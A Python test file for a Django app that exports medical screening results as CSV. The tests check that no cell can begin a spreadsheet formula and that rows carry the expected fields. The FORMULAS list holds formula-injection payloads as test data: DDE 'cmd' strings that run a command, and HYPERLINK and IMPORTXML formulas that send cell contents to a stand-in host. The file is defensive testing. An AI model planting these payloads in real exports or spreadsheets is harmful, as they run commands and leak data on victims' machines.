"""The CSV of several screenings: what it says, and that no cell of it can begin a formula in any spreadsheet."""

import csv
import io
import itertools
from datetime import datetime

import pytest
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from screening.csv_export import HEADER, Row, as_csv, csv_export
from screening.engine.assess import assess
from screening.engine.reading import read_answers
from tests.screening.patients import RULES, patient, quick

AT = datetime(2026, 11, 20, 9, 30, tzinfo=timezone.get_default_timezone())

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\0=1+1",
    "＝1+1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.example?x="&A1,"x")',
    '=IMPORTXML(CONCAT("http://elsewhere.example/",A1),"//a")',
    '"=1+1',
    '","=1+1","',
    'x"\r\n"=1+1"',
    "x;=1+1",
    'x";=1+1',
    "x,=1+1",
    "x\n=1+1",
    "x\u2028=1+1",
]


def read(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def spreadsheet_cells(content):
    """The cells as spreadsheets split them: at commas, semicolons or tabs, with quotes heeded or not."""
    text = content.decode("utf-8-sig")
    for separator, quoting in itertools.product(",;\t", (csv.QUOTE_MINIMAL, csv.QUOTE_NONE)):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator, quoting=quoting):
            yield from row


def begins_formula(cell):
    """Whether a program that passes over blanks and stray quotes would calculate here."""
    return cell.lstrip('" \u00a0\u2028\ufeff\t\r\n\0').startswith(tuple("=+-@＝＋－＠"))


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_spreadsheet_finds_a_formula(formula):
    cells = list(spreadsheet_cells(as_csv(["a", formula], [[formula, "b"], ["c", f"d {formula}"]])))
    assert [cell for cell in cells if begins_formula(cell)] == []


@quick
@given(st.lists(st.text(alphabet="=+-@\t\r\n,;\"' a|", max_size=12), min_size=1, max_size=4))
def test_no_text_whatever_becomes_a_formula(texts):
    cells = spreadsheet_cells(as_csv(["x"] * len(texts), [texts]))
    assert [cell for cell in cells if begins_formula(cell)] == []


@pytest.mark.parametrize("formula", ["=1+1", "+1", "-1", "@a"])
def test_formula_is_led_by_an_apostrophe(formula):
    assert read(as_csv(["a"], [[formula]]))[1] == [f"'{formula}"]


@pytest.mark.parametrize("lead", ["\t", "\r", "\n", "\r\n", "\0"])
def test_hidden_sign_before_a_cell_is_led_by_an_apostrophe_and_becomes_a_blank(lead):
    assert read(as_csv(["a"], [[f"{lead}x"]]))[1] == ["' x"]


@pytest.mark.parametrize("text", ["", "plain", 'he said "no"', "a, b", "it’s ½ – fine", "a-b", "x@y.example", "'a'"])
def test_harmless_text_reads_back_as_it_was(text):
    assert read(as_csv(["a"], [[text]]))[1] == [text]


def test_file_begins_with_the_mark_of_utf_8_and_its_lines_end_as_spreadsheets_want():
    content = as_csv(["ä"], [["ö"], [None]])
    assert content == b'\xef\xbb\xbf"\xc3\xa4"\r\n"\xc3\xb6"\r\n""\r\n'


def row(number, **more):
    answers = read_answers(RULES, patient(number))
    facts = {"reference": str(number), "sent": AT, "reviewed": None, "answered_by": "patient"}
    return Row(**{**facts, **more}, ruleset=RULES, assessment=assess(RULES, answers), answers=answers)


def test_rows_tell_the_heading_the_points_and_every_answer():
    header, first, second = read(csv_export([row(8), row(7, reviewed=AT, answered_by="helper")]))
    told, other = dict(zip(header, first, strict=True)), dict(zip(header, second, strict=True))
    assert header == [*HEADER, *(f"answer:{link_id}" for link_id in RULES.by_link_id)]
    assert told["disposition"] == "talk-first-and-earlier-steps"
    assert told["talk_first"] == "active-addiction"
    assert told["earlier_steps"] == "pain-care-tried spasticity-care-tried spasticity-not-controlled"
    assert (told["sent"], told["reviewed"]) == ("2026-11-20 09:30-05:00", "")
    assert told["answer:pain-treatments-failed"] == "medicines"
    assert told["answer:spasticity-causes"] == ""
    assert other["open"] == "blood-thinners"
    assert (other["reviewed"], other["answered_by"]) == ("2026-11-20 09:30-05:00", "helper")
    assert told["questionnaire"] == RULES.canonical


def test_answer_that_is_no_longer_asked_is_left_out():
    answers = read_answers(RULES, {**patient(1), "main-problem": "spasticity"})
    odd = Row("1", AT, None, "patient", RULES, assess(RULES, answers), answers)
    header, told = read(csv_export([odd]))
    assert told[header.index("answer:pain-severity")] == ""


def test_no_rows_give_a_header_alone():
    assert read(csv_export([])) == [list(HEADER)]
